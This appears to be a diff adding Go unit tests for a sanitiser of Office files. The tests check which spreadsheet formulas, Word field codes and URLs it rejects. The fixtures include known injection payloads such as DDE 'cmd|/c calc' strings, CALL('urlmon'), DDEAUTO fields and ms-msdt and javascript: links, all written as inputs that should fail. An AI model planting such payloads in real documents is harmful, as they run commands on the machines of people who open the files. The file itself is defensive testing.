+		`CALL("urlmon","x")`: false, `REGISTER.ID("a")`: false, `EXEC("calc")`: false, "CUBEVALUE(A1)": false, "_xlfn._xlws.PY(0,1)": false, "STOCKHISTORY(A1)": false, "MyFunction(1)": false, "EVALUATE(A1)": false,
+		"cmd|'/c calc'!A0": false, "'cmd'|'/c calc'!A0": false, "DDE(A1)": false, "[1]Sheet1!A1": false, "[1]!Name": false, `'[1]Sheet 1'!A1`: false, `'C:\x\[b.xlsx]S'!A1`: false, `'\\server\x'!A1`: false,
+		`HYPERLINK("file://x")`: false, "HYPERLINK(A1)": false, `HYPERLINK("ms-msdt:x")`: false, `HYPERLINK("\\server\x")`: false, `INDIRECT("[b.xlsx]S!A1")`: false,
+		`"open`: false, "'open": false, "T[open": false, "WEBSERVICE (A1)": false, "SUM\n(A1)": true, "_xludf.DUMMYFUNCTION(1)": false,
+	} {
+		if got := formulaVerdict(f); (got == "") != ok {
+			t.Errorf("%s: %q", f, got)
+		}
+	}
+	if formulaVerdict(strings.Repeat("1+", 10000)+"1") == "" {
+		t.Error("a formula longer than any may be stays")
+	}
+}
+
+func TestFields(t *testing.T) {
+	for _, c := range []struct {
+		code   string
+		nested bool
+		ok     bool
+	}{
+		{"PAGE", false, true}, {" page \\* MERGEFORMAT ", false, true}, {`TOC \o "1-3" \h \z \u`, false, true}, {"", false, true}, {"REF _Ref1 \\h", false, true}, {`SEQ 図 \* ARABIC`, false, true},
+		{`HYPERLINK "https://example.jp/"`, false, true}, {`HYPERLINK \l "b"`, false, true}, {`HYPERLINK "http://x" \l "b" \o "DDE"`, false, true}, {`HYPERLINK mailto:a@b`, false, true}, {"FORMTEXT", false, true},
+		{"DDE x", false, false}, {"DDEAUTO x", false, false}, {`INCLUDEPICTURE "http://x"`, false, false}, {"MACROBUTTON x y", false, false}, {"IF 1=1 a b", false, false}, {"QUOTE 68", false, false},
+		{"= 1+1", false, false}, {"PAGEX", false, false}, {"", true, false}, {"PAGE", true, true}, {"HYPERLINK", true, false}, {`HYPERLINK "file://x"`, false, false}, {`HYPERLINK "\\\\server\\x"`, false, false},
+		{`HYPERLINK "other.docx"`, false, false}, {`HYPERLINK "https://a" "file://b"`, false, false}, {"HYPERLINK", false, false}, {`PAGE DDEAUTO cmd`, false, false}, {`"DDEAUTO" x`, false, false},
+		{"\\DDE", false, false}, {"AUTHOR", false, false}, {"MERGEFIELD x", false, false}, {"PRINT x", false, false}, {"LINK x", false, false}, {"EMBED x", false, false}, {"ADDIN x", false, false},
+	} {
+		if got := fieldVerdict(c.code, c.nested); (got == "") != c.ok {
+			t.Errorf("%q (nested %v): %q", c.code, c.nested, got)
+		}
+	}
+}
+
+func TestURLs(t *testing.T) {
+	for u, ok := range map[string]bool{
+		"https://example.jp/": true, "HTTP://example.jp": true, "mailto:a@example.jp?subject=x": true, "https://例え.jp/%zz": true,
+		"": false, "file:///c:/x": false, "javascript:alert(1)": false, "java\tscript:x": false, "http:\\\\server\\x": false, "http:/x": false, "http:///x": false, `http://\server`: false,
+		"data:text/html,x": false, "ms-msdt:x": false, "search-ms:x": false, `\\server\share`: false, "//server/x": false, "other.xlsx": false, "https\n://x": false, "mhtml:http://x": false, "ftp://x": false,
+	} {
+		if got := harmlessURL(u); got != ok {
+			t.Errorf("%q: %v", u, got)
+		}
+	}
+}
+
+// sharedFiles lists the documents of the corpus beside the repository.
+func sharedFiles(t testing.TB) []string {
+	dir := os.Getenv("SEKISHO_SHARED")
+	if dir == "" {
+		dir = "../../../shared"
+	}
+	var out []string
+	for _, k := range []string{"docx", "xlsx", "pptx"} {
+		f, err := filepath.Glob(filepath.Join(dir, "corpus", k, "*"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		out = append(out, f...)
+	}
+	return out
+}
+
+func TestSharedCorpusHasNoIDThatLeadsNowhere(t *testing.T) {
+	files := sharedFiles(t)
+	if len(files) == 0 {
+		t.Skip("no shared corpus beside the repository; only the documents made here were checked")
+	}
+	rebuilt := 0
+	for _, name := range files {
+		b, err := os.ReadFile(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !bytes.HasPrefix(b, []byte("PK")) {
+			continue // encrypted
+		}
+		out, _, _, err := treat(b)
+		if err != nil {
+			t.Logf("%s: %v", filepath.Base(name), err)
+			continue
+		}
+		rebuilt++
+		checkPackage(t, filepath.Base(name), out)
+	}
+	if rebuilt*100 < len(files)*90 {
+		t.Errorf("%d of %d rebuilt", rebuilt, len(files))
+	}
+}
